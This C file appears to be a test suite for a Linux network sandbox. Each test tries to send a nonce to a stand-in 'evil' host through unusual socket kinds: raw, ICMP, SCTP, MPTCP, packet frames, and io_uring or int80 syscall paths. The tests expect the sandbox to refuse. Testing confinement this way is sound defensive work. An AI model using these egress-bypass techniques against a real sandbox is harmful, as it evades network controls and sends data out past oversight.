/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* Kinds of sockets that are neither TCP nor UDP, and where those that may be there go. */
#include "attack.h"

#include <errno.h>
#include <linux/if_packet.h>
#include <linux/if_xdp.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define MPTCP 262
#define SCTP 132
#define SCTP_CONNECTX 110 /* include/uapi/linux/sctp.h */
#define L2TP 115

static const struct dest evil = { EVIL4, PORT }, evil6 = { EVIL6, PORT }, ok = { OK4, PORT };

struct kind {
	int family, type, protocol;
};

/* What this kernel does not have is no refusal. */
static int none_here(int err)
{
	switch (-err) {
	case EAFNOSUPPORT:
	case EPROTONOSUPPORT:
	case ESOCKTNOSUPPORT:
	case ENOENT:
		return cannot("this kernel has no such socket");
	default:
		return err;
	}
}

static int make(const void *arg)
{
	const struct kind *k = arg;

	return none_here(result(socket(k->family, k->type, k->protocol)));
}

static int make_uring(const void *arg)
{
	const struct kind *k = arg;

	return none_here(uring_socket(k->family, k->type, k->protocol));
}

static int make_int80(const void *arg)
{
	const struct kind *k = arg;
	int r = need_int80();

	return r ? r : none_here(int80(359 /* socket */, k->family, k->type, k->protocol, 0, 0));
}

/* ---- to evil --------------------------------------------------------------------- */

static int ping(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	bool six = ss.ss_family == AF_INET6;
	uint8_t echo[8 + NONCE] = { six ? 128 : 8 };
	int fd = open_socket(ss.ss_family, SOCK_DGRAM, six ? IPPROTO_ICMPV6 : IPPROTO_ICMP);

	if (fd < 0)
		return fd;
	memcpy(echo + 8, world.nonce, NONCE);
	return result(sendto(fd, echo, sizeof(echo), 0, (void *)&ss, len));
}

struct datagram {
	struct iphdr ip;
	struct udphdr udp;
	uint8_t data[NONCE];
};

static void fill(struct datagram *p, const struct sockaddr_storage *to)
{
	*p = (struct datagram){
		.ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
			.tot_len = htons(sizeof(*p)),
			.daddr = ((const struct sockaddr_in *)to)->sin_addr.s_addr },
		.udp = { .source = htons(4000), .dest = htons(PORT),
			 .len = htons(sizeof(p->udp) + NONCE) },
	};
	memcpy(p->data, world.nonce, NONCE);
}

static int raw(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int fd = open_socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
	struct datagram p;

	if (fd < 0)
		return fd;
	fill(&p, &ss);
	return result(sendto(fd, &p.udp, sizeof(p) - sizeof(p.ip), 0, (void *)&ss, len));
}

/* The header says evil, sendto() says ok. */
static int raw_header(const void *dest)
{
	struct sockaddr_storage ss, to_ok;
	socklen_t len = to_sockaddr(&ok, &to_ok);
	int fd = open_socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	struct datagram p;

	if (fd < 0)
		return fd;
	(void)to_sockaddr(dest, &ss);
	fill(&p, &ss);
	return result(sendto(fd, &p, sizeof(p), 0, (void *)&to_ok, len));
}

static int raw6(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int fd = open_socket(AF_INET6, SOCK_RAW, 253 /* for experiments */);

	((struct sockaddr_in6 *)&ss)->sin6_port = 0;
	return fd < 0 ? fd : result(sendto(fd, world.nonce, NONCE, 0, (void *)&ss, len));
}

/* Nobody has to answer: that evil is asked is what counts. */
static int sctp_socket(int type)
{
	return none_here(open_socket(AF_INET, type | SOCK_NONBLOCK, SCTP));
}

static int asked(int r)
{
	return r < 0 && errno != EINPROGRESS && errno != EAGAIN ? -errno : 0;
}

static int sctp(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int fd = sctp_socket(SOCK_STREAM);

	return fd < 0 ? fd : asked(connect(fd, (void *)&ss, len));
}

static int sctp_connectx(const void *unused)
{
	struct sockaddr_storage one, two;
	struct sockaddr_in both[2];
	int fd = sctp_socket(SOCK_STREAM);

	(void)unused;
	if (fd < 0)
		return fd;
	(void)to_sockaddr(&evil, &one);
	(void)to_sockaddr(&ok, &two);
	memcpy(&both[0], &one, sizeof(both[0]));
	memcpy(&both[1], &two, sizeof(both[1]));
	return asked(setsockopt(fd, SCTP, SCTP_CONNECTX, both, sizeof(both)));
}

/* Sent with the association, if it is there. */
static int sctp_seqpacket(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int fd = sctp_socket(SOCK_SEQPACKET);

	if (fd < 0)
		return fd;
	return asked((int)sendto(fd, world.nonce, NONCE, 0, (void *)&ss, len));
}

static int mptcp(const void *dest)
{
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(dest, &ss);
	int fd = open_socket(ss.ss_family, SOCK_STREAM, MPTCP);

	if (fd < 0)
		return none_here(fd);
	return connect(fd, (void *)&ss, len) ? -errno : send_nonce(fd, NULL);
}

static int udplite(const void *dest)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE);

	return fd < 0 ? none_here(fd) : send_nonce(fd, dest);
}

/* A frame by the interface that leads to evil, past everything that knows of addresses. */
static int frame(const void *unused)
{
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP),
				  .sll_ifindex = (int)if_nametoindex("evil"), .sll_halen = 6,
				  .sll_addr = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff } };
	struct sockaddr_storage ss;
	int fd = open_socket(AF_PACKET, SOCK_DGRAM, 0);
	struct datagram p;

	(void)unused;
	if (fd < 0)
		return fd;
	(void)to_sockaddr(&evil, &ss);
	fill(&p, &ss);
	return result(sendto(fd, &p, sizeof(p), 0, (void *)&to, sizeof(to)));
}

#define KIND(f, t, p) &(const struct kind){ f, t, p }
#define MAKE(n, k, by_) { .name = n, .run = make, .arg = k, .by = by_, .judge = "claim", \
			  .err = "EPERM", .event = "socket/family capable/guard" }
#define HOW(n, f, k, by_) { .name = n, .run = f, .arg = k, .by = by_, .judge = "claim", \
			    .err = "EPERM", .event = "socket/family capable/guard" }
#define NONE(n, f, to, by_, j) { .name = n, .run = f, .arg = to, .by = by_, .judge = j, \
				 .err = "EPERM", .event = "socket/family capable/guard" }
/* Of ICMPv6 and SCTP the sender is not told. */
#define SENT(n, f, to, by_, j, e) { .name = n, .run = f, .arg = to, .by = by_, .judge = j, \
				    .err = "EPERM DROPPED", .event = e, .policy = "kinds" }

const struct attack attacks_kinds[] = {
	NONE("A16:ping", ping, &evil, BY_BOTH, "evil"),
	NONE("A16:ping6", ping, &evil6, BY_BOTH, "evil"),
	NONE("A16:raw", raw, &evil, BY_ROOT, "evil"),
	NONE("A16:raw-header", raw_header, &evil, BY_ROOT, "any"),
	NONE("A16:raw6", raw6, &evil6, BY_ROOT, "evil"),
	NONE("A16:udplite", udplite, &evil, BY_BOTH, "evil"),
	NONE("A16:sctp", sctp, &evil, BY_BOTH, "evil"),
	MAKE("A16:l2tp", KIND(AF_INET, SOCK_DGRAM, L2TP), BY_BOTH),
	MAKE("A16:dccp", KIND(AF_INET, 6, IPPROTO_DCCP), BY_BOTH),
	/* where there may be such sockets */
	SENT("A16:ping-allowed", ping, &evil, BY_BOTH, "evil", "send/rule"),
	SENT("A16:ping6-allowed", ping, &evil6, BY_BOTH, "evil", "send/rule"),
	SENT("A16:raw-allowed", raw, &evil, BY_ROOT, "evil", "send/rule"),
	SENT("A16:raw-header-allowed", raw_header, &evil, BY_ROOT, "any", "send/rule"),
	SENT("A16:raw6-allowed", raw6, &evil6, BY_ROOT, "evil", "send/rule packet/headers"),
	SENT("A16:sctp-allowed", sctp, &evil, BY_BOTH, "evil", "connect/rule"),
	SENT("A16:sctp-connectx", sctp_connectx, NULL, BY_BOTH, "evil",
	     "connect/rule send/rule"),
	SENT("A16:sctp-seqpacket", sctp_seqpacket, &evil, BY_BOTH, "evil",
	     "send/rule connect/rule"),

	NONE("A17:mptcp", mptcp, &evil, BY_BOTH, "evil"),
	NONE("A17:mptcp6", mptcp, &evil6, BY_BOTH, "evil"),
	HOW("A17:uring", make_uring, KIND(AF_INET, SOCK_STREAM, MPTCP), BY_BOTH),
	SENT("A17:mptcp-allowed", mptcp, &evil, BY_BOTH, "evil", "connect/rule"),

	MAKE("A18:vsock", KIND(AF_VSOCK, SOCK_STREAM, 0), BY_BOTH),
	MAKE("A18:alg", KIND(AF_ALG, SOCK_SEQPACKET, 0), BY_BOTH),
	MAKE("A18:key", KIND(AF_KEY, SOCK_RAW, 2), BY_ROOT),
	MAKE("A18:tipc", KIND(AF_TIPC, SOCK_RDM, 0), BY_BOTH),
	MAKE("A18:kcm", KIND(AF_KCM, SOCK_DGRAM, 0), BY_BOTH),
	MAKE("A18:qipcrtr", KIND(42 /* AF_QIPCRTR */, SOCK_DGRAM, 0), BY_BOTH),
	MAKE("A18:rxrpc", KIND(AF_RXRPC, SOCK_DGRAM, AF_INET), BY_BOTH),
	MAKE("A18:can", KIND(AF_CAN, SOCK_RAW, 1), BY_ROOT),
	MAKE("A18:bluetooth", KIND(AF_BLUETOOTH, SOCK_SEQPACKET, 0), BY_BOTH),
	MAKE("A18:pppox", KIND(AF_PPPOX, SOCK_STREAM, 0), BY_BOTH),
	MAKE("A18:smc", KIND(AF_SMC, SOCK_STREAM, 0), BY_BOTH),
	MAKE("A18:llc", KIND(AF_LLC, SOCK_STREAM, 0), BY_ROOT),
	MAKE("A18:netlink-generic", KIND(AF_NETLINK, SOCK_RAW, 16), BY_BOTH),
	MAKE("A18:netlink-netfilter", KIND(AF_NETLINK, SOCK_RAW, 12), BY_BOTH),
	MAKE("A18:netlink-xfrm", KIND(AF_NETLINK, SOCK_RAW, 6), BY_BOTH),
	MAKE("A18:netlink-audit", KIND(AF_NETLINK, SOCK_RAW, 9), BY_BOTH),
	MAKE("A18:netlink-uevent", KIND(AF_NETLINK, SOCK_RAW, 15), BY_BOTH),
	HOW("A18:uring-alg", make_uring, KIND(AF_ALG, SOCK_SEQPACKET, 0), BY_BOTH),
	HOW("A18:int80-alg", make_int80, KIND(AF_ALG, SOCK_SEQPACKET, 0), BY_BOTH),

	NONE("A19:frame", frame, NULL, BY_ROOT, "evil"),
	MAKE("A19:packet", KIND(AF_PACKET, SOCK_RAW, 0), BY_ROOT),
	MAKE("A19:packet-of-old", KIND(AF_INET, SOCK_PACKET, 0), BY_ROOT),
	MAKE("A19:xdp", KIND(AF_XDP, SOCK_RAW, 0), BY_ROOT),
	HOW("A19:uring", make_uring, KIND(AF_PACKET, SOCK_RAW, 0), BY_ROOT),
	HOW("A19:int80", make_int80, KIND(AF_PACKET, SOCK_RAW, 0), BY_ROOT),
	{},
};
